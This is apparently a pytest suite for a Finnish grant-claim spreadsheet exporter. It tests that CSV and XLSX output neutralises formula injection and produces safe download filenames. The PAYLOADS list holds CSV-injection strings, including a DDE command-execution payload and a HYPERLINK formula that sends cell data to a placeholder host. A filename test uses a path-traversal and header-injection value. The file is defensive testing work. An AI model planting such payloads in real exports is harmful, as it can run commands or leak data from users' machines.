"""The tabular writer through HTTP: formula payloads come out inert in CSV and XLSX (no cell is a
formula, no ``<f>`` in the sheet XML), control characters never break an export, numbers and dates
are typed cells, header block and totals, and a safe Content-Disposition."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import AsyncIterator
from decimal import Decimal
from typing import Any

import httpx
import pytest
from fastapi import APIRouter, FastAPI, Response
from openpyxl import load_workbook

from hanke_libs.app import create_base_app
from hanke_libs.settings import AppSettings
from hanke_libs.tabular import (
    FILE_RESPONSES,
    Column,
    CsvOptions,
    ExportFormat,
    Sheet,
    TableSpec,
    content_disposition,
    neutralise,
    parse_amount,
    parse_date,
    read_table,
    table_response,
    write_csv,
    write_xlsx,
)
from hanke_libs.testing import running

PAYLOADS = [
    '=HYPERLINK("http://x/?"&B2,"invoice")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x")',
    "+SUM(1)",
    "@SUM(1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
CONTROL = ["Kokeilu \u0001", "nul\x00byte", "lone \ud800 surrogate", "\ufffe\uffff", "bell\x07"]
COLUMNS = [Column("Kuvaus"), Column("Päivä", "date"), Column("Summa", "money"), Column("Kpl", "integer")]


def claim_sheet(texts: list[str]) -> Sheet:
    rows = [[t, dt.date(2021, 1, i + 1), Decimal("1234.50") + i, i] for i, t in enumerate(texts)]
    total = sum((Decimal("1234.50") + i for i in range(len(texts))), Decimal("0.00"))
    return Sheet(
        name="Maksatushakemus 1",
        columns=COLUMNS,
        rows=rows,
        preamble=[
            ("Hanke", "S21894 Ihmiskeskeinen digitaalinen kunta"),
            ("Kausi", "1.1.2021–30.6.2021"),
            ("Tila", "submitted"),
            ("Haettu ESR", Decimal("9876.54")),
            ("Laadittu", dt.datetime(2021, 7, 1, 9, 30, tzinfo=dt.UTC)),
            ("=evil label", "=evil value"),
        ],
        totals=[["Yhteensä", None, total, None]],
    )


def make_app() -> FastAPI:
    app = create_base_app(
        name="export-test",
        title="export",
        version="0",
        description="",
        settings=AppSettings(log_json=False),
        use_database=False,
    )
    router = APIRouter()

    @router.get("/claims/1/export", response_class=Response, responses=FILE_RESPONSES)
    async def export(format: ExportFormat = "xlsx") -> Response:
        return await table_response(
            format, claim_sheet(PAYLOADS + CONTROL), filename="maksatushakemus-S21894-1 ä"
        )

    app.include_router(router)
    return app


@pytest.fixture
async def api() -> AsyncIterator[httpx.AsyncClient]:
    async with running(make_app()) as c:
        yield c


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


async def test_xlsx_export_has_no_live_formula_and_typed_cells(api: httpx.AsyncClient) -> None:
    response = await api.get("/claims/1/export?format=xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    xml = _sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    ws = load_workbook(io.BytesIO(response.content)).active
    assert ws is not None and ws.title == "Maksatushakemus 1"
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value or cell.value[0] not in "=+-@\t\r\uff1d", (cell.coordinate, cell.value)
    # header block: label / typed value
    assert [ws.cell(r, 1).value for r in range(1, 5)] == ["Hanke", "Kausi", "Tila", "Haettu ESR"]
    assert ws["B4"].value == 9876.54 and ws["B4"].data_type == "n" and ws["B4"].number_format == "#,##0.00"
    assert ws["B5"].is_date and ws["B5"].value == dt.datetime(2021, 7, 1, 9, 30)
    assert ws["A6"].value == "'=evil label" and ws["B6"].value == "'=evil value"
    header_row = 8
    assert [c.value for c in ws[header_row]] == ["Kuvaus", "Päivä", "Summa", "Kpl"]
    first = ws[header_row + 1]
    assert first[0].value == "'" + PAYLOADS[0] and first[0].data_type == "s"
    assert first[1].is_date and first[1].number_format == "d.m.yyyy"
    assert first[2].data_type == "n" and first[2].value == 1234.5 and first[2].number_format == "#,##0.00"
    assert first[3].data_type == "n" and first[3].value == 0
    data_rows = list(ws.iter_rows(min_row=header_row + 1, max_row=header_row + len(PAYLOADS) + len(CONTROL)))
    total_row = ws[header_row + len(data_rows) + 1]
    assert total_row[0].value == "Yhteensä" and total_row[2].data_type == "n"
    assert Decimal(str(total_row[2].value)) == sum((Decimal(str(r[2].value)) for r in data_rows), Decimal(0))
    texts = [r[0].value for r in data_rows]
    assert texts[len(PAYLOADS)] == "Kokeilu \ufffd" and "\ufffd" in texts[len(PAYLOADS) + 2]


async def test_csv_export_is_inert_typed_and_finnish(api: httpx.AsyncClient) -> None:
    response = await api.get("/claims/1/export?format=csv")
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf") and b"\r\n" in response.content
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[3] == ["Haettu ESR", "9876,54"] and rows[4] == ["Laadittu", "1.7.2021 09:30"]
    assert rows[5] == ["'=evil label", "'=evil value"] and rows[6] == []
    assert rows[7] == ["Kuvaus", "Päivä", "Summa", "Kpl"]
    body = rows[8 : 8 + len(PAYLOADS)]
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS]
    assert body[0][1:] == ["1.1.2021", "1234,50", "0"]
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r\uff1d", cell
    assert rows[-1][0] == "Yhteensä" and parse_amount(rows[-1][2]) == sum(
        (parse_amount(r[2]) or Decimal(0) for r in rows[8:-1]), Decimal(0)
    )


async def test_content_disposition_and_format_check(api: httpx.AsyncClient) -> None:
    response = await api.get("/claims/1/export")
    assert response.headers["content-disposition"] == (
        'attachment; filename="maksatushakemus-S21894-1_a.xlsx"; '
        "filename*=UTF-8''maksatushakemus-S21894-1%20%C3%A4.xlsx"
    )
    bad = await api.get("/claims/1/export?format=pdf")
    assert bad.status_code == 422 and bad.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("ledger.csv", 'attachment; filename="ledger.csv"'),
        (
            '../../etc/pa"ss\r\nX-Evil: 1.csv',
            "attachment; filename=\"pa_ssX-Evil_1.csv\"; filename*=UTF-8''pa%22ssX-Evil%3A%201.csv",
        ),
        ("..", 'attachment; filename="export"'),
    ],
)
def test_content_disposition_is_safe(name: str, expected: str) -> None:
    header = content_disposition(name)
    assert header == expected
    assert "\r" not in header and "\n" not in header and "/" not in header


def test_neutralise_only_what_triggers() -> None:
    assert [neutralise(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert neutralise("Kahvi") == "Kahvi" and neutralise("") == "" and neutralise("a=b") == "a=b"


def test_huge_text_and_bad_sheet_names_in_xlsx() -> None:
    sheets = [
        Sheet("a/b:c*?[x]'", ["Teksti"], [["x" * 40_000]]),
        Sheet("a/b:c*?[x]'", ["Teksti"], [["y"]]),
        Sheet("N" * 40, ["Teksti"], [[None]]),
    ]
    wb = load_workbook(io.BytesIO(write_xlsx(sheets)))
    assert wb.sheetnames == ["a_b_c___x_", "a_b_c___x_ (2)", "N" * 31]
    cell = wb.worksheets[0]["A2"].value
    assert isinstance(cell, str) and len(cell) == 32_767 and cell.endswith("…")


def test_ledger_round_trip_through_csv_and_xlsx() -> None:
    spec = TableSpec.of(
        {"voucher": ("Tosite",), "day": ("Tositepäivä",), "amount": ("Debet",)}, required=["voucher", "day"]
    )
    rows: list[list[Any]] = [
        ["0123", dt.date(2021, 12, 27), Decimal("4016.96")],
        ["=1+1", dt.date(2020, 9, 15), Decimal("-0.05")],
    ]
    sheet = Sheet("Kirjanpito", [Column("Tosite", "text"), "Tositepäivä", Column("Debet", "money")], rows)
    fi = CsvOptions(thousands_separator=" ")
    assert b"4 016,96" in write_csv(sheet, fi)
    for data, name in [
        (write_csv(sheet, fi), "a.csv"),
        (write_csv(sheet), "a.csv"),
        (write_xlsx(sheet), "a.xlsx"),
    ]:
        table = read_table(data, name, spec)
        assert [(r.text("voucher"), parse_date(r["day"]), parse_amount(r["amount"])) for r in table.rows] == [
            ("0123", dt.date(2021, 12, 27), Decimal("4016.96")),
            ("'=1+1", dt.date(2020, 9, 15), Decimal("-0.05")),
        ]


def test_iso_csv_options() -> None:
    sheet = Sheet("m", ["d", "v", "b"], [[dt.date(2021, 3, 1), Decimal("12.5"), True]])
    text = write_csv(
        sheet,
        CsvOptions(delimiter=",", bom=False, line_terminator="\n", decimal_comma=False, date_format="iso"),
    ).decode()
    assert text == "d,v,b\n2021-03-01,12.5,true\n"
